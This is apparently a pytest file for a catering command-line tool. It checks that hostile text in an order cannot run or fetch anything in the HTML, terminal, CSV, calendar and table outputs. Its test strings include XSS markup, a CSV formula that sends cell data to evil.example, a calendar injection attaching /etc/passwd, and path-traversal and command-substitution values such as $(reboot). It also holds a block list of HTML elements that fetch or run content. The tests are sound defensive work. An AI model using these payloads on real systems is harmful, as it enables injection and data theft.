"""What an order calls its food, people and places stays text in every form and paper: none of it is run or followed."""

from __future__ import annotations

import csv
import io
import json
import re
from functools import cache
from html.parser import HTMLParser

import icalendar
import pytest

from catering_cli.cli import output
from catering_cli.cli.house.close import closed
from catering_cli.cli.output import json_text
from catering_cli.cli.signature import person
from catering_cli.domain.decision import Decided, Translation
from catering_cli.domain.plan import CateringPlan
from catering_cli.domain.problem import Refused
from catering_cli.domain.week import Week
from catering_cli.intake import load
from catering_cli.intake.house import tables
from catering_cli.intake.house.learning import Number
from catering_cli.intake.house.observed import Observed
from catering_cli.intake.messages.sources import thread
from catering_cli.kitchen.cook import cook
from catering_cli.render.forms import csv_tables
from catering_cli.render.forms.label_sheets import ON_LABELS
from catering_cli.render.forms.writers import WRITERS
from catering_cli.render.page import Page
from catering_cli.render.sections.index import BOOKS, SECTIONS

TEXTS = {
    "markup": "</style></script><img src=x onerror=alert(1)> \x1b]0;owned\x07 \x1b[2J [link](javascript:alert(1))",
    "formula": "=HYPERLINK(\"http://evil.example/?\"&A1;'x')",
    "calendar": "Stew\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nATTACH:file:///etc/passwd\u2028x",
    "path": "../../../etc/passwd; $(reboot) `id` %s%n {0.__class__} ![x](http://evil.example/x.png)",
}
RUNS = {"img", "iframe", "object", "embed", "form", "script", "base"}
"""Elements that fetch or run something: no paper has one, whatever its text says."""


OWN = ("#", "data:,")
"""Beginnings of the addresses that a page has of its own: places in it, and an empty icon."""


class Read(HTMLParser):
    """The elements of a page, and the attributes that would run or fetch something."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag, attrs):
        self.elements.add(tag)
        runs = {name for name, _ in attrs if name.startswith("on") or name in ("src", "srcdoc")}
        self.attributes |= runs | {value for name, value in attrs if name == "href" and not value.startswith(OWN)}


@cache
def planned(name: str) -> CateringPlan:
    """A small order in which all that is free to be named has a hostile name."""
    text = TEXTS[name]
    recipe = {
        "name": text, "course": "main", "yield": {"portions": 10, "stated": text}, "source": text, "vessel": text[:60],
        "tags": [text],
        "ingredients": [
            {"item": text, "quantity": {"amount": 2, "unit": "kg"}, "preparation": text, "text": text},
            {"item": f"salmon {text}", "quantity": {"amount": 1, "unit": "kg"}},
        ],
        "steps": [{"text": text, "minutes": 20, "equipment": [text], "skill": text[:40], "temperature": text[:30]}],
    }  # fmt: skip
    document = {
        "event": {"name": text, "service_at": "2027-04-17T12:30:00-04:00", "venue": text, "style": "boxed"},
        "guests": {
            "guaranteed": 30,
            "profiles": [{"needs": [text], "count": 2, "severity": "severe", "name": text}],
            "extra_meals": [{"who": text, "count": 2}],
        },
        "places": [{"id": "base", "kind": "base"}, {"id": "hall", "name": text}],
        "legs": [{"from": "base", "to": "hall", "minutes": 20, "vehicle": text}],
        "services": [{"id": text, "at": "2027-04-17T12:30:00-04:00", "place": "hall"}],
        "menu": [{"dish": text, "recipe": recipe}, "Caesar salad"],
        "supply": [{"item": text, "supplier": text, "pack": "1 kg", "price": 3, "lead_days": 1}],
        "products": [{"item": text, "brand": text, "label": [text], "read_on": text, "by": text}],
        "budget": {"labor_per_hour": 20},
    }
    translated = Decided(decision=Translation(dish="d1", step=1, text=f"{text} Hecho."), by="model")
    return cook(load.order_of(document, "order.json"), [translated])


@pytest.mark.parametrize(("name", "lang"), [*((name, "en") for name in TEXTS), ("markup", "en+es"), ("path", "es")])
def test_no_paper_runs_or_fetches_what_an_order_names(name, lang):
    plan = planned(name)
    for section in (*BOOKS, *SECTIONS):
        read = Read()
        read.feed(WRITERS["html"](plan, Page(section=section, lang=lang)))
        assert not read.elements & RUNS, section
        assert not read.attributes, section
        for form in ("terminal", "markdown"):
            said = WRITERS[form](plan, Page(section=section, width=120, lang=lang))
            assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e]", said), section
        prose = re.sub(r"```.*?```", "", said, flags=re.DOTALL)
        assert not re.search(r"(?<!\\)\]\(|(?<!\\)<[a-z/]", prose), section


@pytest.mark.parametrize("name", TEXTS)
@pytest.mark.parametrize("section", ON_LABELS)
def test_no_label_runs_or_fetches_what_an_order_names(name, section):
    read = Read()
    read.feed(WRITERS["html"](planned(name), Page(section=section, stock="5164")))
    assert "article" in read.elements
    assert not read.elements & RUNS
    assert not read.attributes


@pytest.mark.parametrize("name", TEXTS)
def test_no_cell_is_a_formula_and_no_calendar_line_is_another_property(name):
    plan = planned(name)
    for file, data in csv_tables.csv_files(plan).items():
        assert file == re.sub(r"[^\w.-]", "", file)
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
            assert not [cell for cell in row if re.match(r"\s*[=+@]|\s*-[^\d]", cell) and cell != "-"], file
    calendar = icalendar.Calendar.from_ical(WRITERS["ics"](plan, Page()))
    assert len(calendar.walk("VEVENT")) >= len(plan.timeline.blocks)
    assert "ATTACH" not in {key for event in calendar.walk() for key in event}


def test_what_a_message_or_a_document_says_steers_no_terminal(tmp_path):
    path = tmp_path / "mail.txt"
    path.write_text("Lunch for 40\x1b[2J\x00\u2028notes: x\x9b1m \u202eevil", encoding="utf-8")
    said = thread(str(path))[0].text
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e]", said)
    text = json_text({"name": "a\x9b1m\u202eb"})
    assert text.isascii()
    assert json.loads(text) == {"name": "a\x9b1m\u202eb"}


@pytest.mark.parametrize(
    ("change", "says"),
    [
        (lambda week: week["events"][0].update(plan="../../etc/passwd"), "beside the week's"),
        (lambda week: week["events"][0].update(plan="a\0b"), "beside the week's"),
        (lambda week: week["events"].append(week["events"][0]), "two events"),
        (lambda week: week["costs"].append({"event": "x", "kind": "food"}), "no event of this week"),
    ],
)
def test_a_week_leads_to_no_other_file_and_no_other_event(change, says):
    event = {"id": "a", "name": "A", "plan": "a.plan.json", "digest": "0", "service_at": "2027-04-17T12:30:00-04:00"}
    week = {"events": [event], "costs": [{"event": "a", "kind": "food"}]}
    Week.model_validate(week)
    change(week)
    with pytest.raises(ValueError, match=says):
        Week.model_validate(week)


def test_what_a_command_tells_in_words_steers_no_terminal(capsys):
    output.result(f"{TEXTS['markup']} \x9b1m \u202eevil\n  next")
    said = capsys.readouterr().out
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e]", said)
    assert said.endswith("\n  next\n")


@pytest.mark.parametrize("name", TEXTS)
def test_the_tables_of_a_house_run_nothing_and_are_read_back(name, tmp_path, capsys):
    plan = planned(name)
    rows = list(csv.DictReader(io.StringIO(csv_tables.list_of_section(plan, "closing").lstrip("\ufeff"))))
    filled = tmp_path / "filled.csv"
    with filled.open("w", newline="", encoding="utf-8") as file:
        out = csv.DictWriter(file, rows[0])
        out.writeheader()
        out.writerows({**row, "actual": "20" if row["row"].endswith((".made", ".s1")) else ""} for row in rows)
    told = []
    for _ in range(2):
        closed(plan, str(filled), tmp_path / "house", as_json=False)
        told.append(capsys.readouterr().out)
        for table in (tables.OBSERVED, tables.LEARNT):
            text = (tmp_path / "house" / table).read_text(encoding="utf-8")
            assert not re.search(r"(^|\t)\s*[=+@-]|[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e]", text, re.MULTILINE)
    assert told[0] == told[1], "the same sheet takes its own place"
    assert "\x1b" not in told[0]


@pytest.mark.parametrize(
    ("table", "column", "value", "says"),
    [
        (tables.LEARNT, "value", "9" * 5_000, "a whole number"),
        (tables.LEARNT, "value", "999999", "at most"),
        (tables.LEARNT, "what", "speed", "one of minutes"),
        (tables.OBSERVED, "what", "speed", "one of minutes"),
        (tables.OBSERVED, "planned", "1e999999999", "a number"),
        (tables.OBSERVED, "actual", "1/0", "a number"),
        (tables.OBSERVED, "left", "some", "a number"),
    ],
)
def test_a_table_of_a_house_that_a_hand_has_spoilt_is_named(table, column, value, says, tmp_path):
    first = {"event": "A", "day": "2027-04-17", "what": "minutes", "about": "Stew", "step": "1", "text": "Cook",
             "base": "10", "planned": "0", "actual": "12", "left": "", "over": "0", "use": "yes", "value": "12",
             "unit": "min", "n": "1", "low": "12", "high": "12", "last": "2027-04-17"}  # fmt: skip
    columns = Observed._fields if table == tables.OBSERVED else (tables.USE, *Number._fields)
    lines = ["\t".join(columns), "\t".join({**first, column: value}[name] for name in columns)]
    (tmp_path / table).write_text("\n".join(lines), encoding="utf-8")
    with pytest.raises(Refused, match=says) as caught:
        tables.with_sheet(tmp_path, ())
    assert column in caught.value.problems[0].place


@pytest.mark.parametrize("name", ["", " ", "Ann\n# Peanut soup", "Ann\x1b[2J", "Ann\u202e", "x" * 201])
def test_who_stands_for_something_has_a_name_of_one_line(name):
    with pytest.raises(Refused, match="--by"):
        person(name)
